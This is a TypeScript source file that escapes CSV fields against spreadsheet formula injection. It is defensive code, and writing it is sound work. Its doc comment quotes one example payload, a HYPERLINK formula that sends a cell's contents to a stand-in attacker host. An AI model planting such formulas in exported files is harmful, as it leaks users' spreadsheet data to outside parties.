/**
 * One CSV field, safe to open in a spreadsheet. Text starting with `=`, `+`, `-`, `@`, a tab or
 * a carriage return would be run as a formula by Excel, Sheets or LibreOffice (a cell reading
 * `=HYPERLINK("https://evil.test?"&A1,"Click")` leaks the sheet), so it gets a leading `'`,
 * which every one of them shows as plain text (security checklist 46). A plain number such as
 * `-12.5` is left alone: it cannot run, and a quote would turn it into text.
 */
export function csvField(text: string): string {
  const neutral = /^[=+\-@\t\r]/.test(text) && !/^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?$/.test(text) ? `'${text}` : text;
  return /[",\n\r]/.test(neutral) ? `"${neutral.replace(/"/g, '""')}"` : neutral;
}

/** One CSV line. */
export function csvLine(fields: readonly string[]): string {
  return fields.map(csvField).join(',');
}
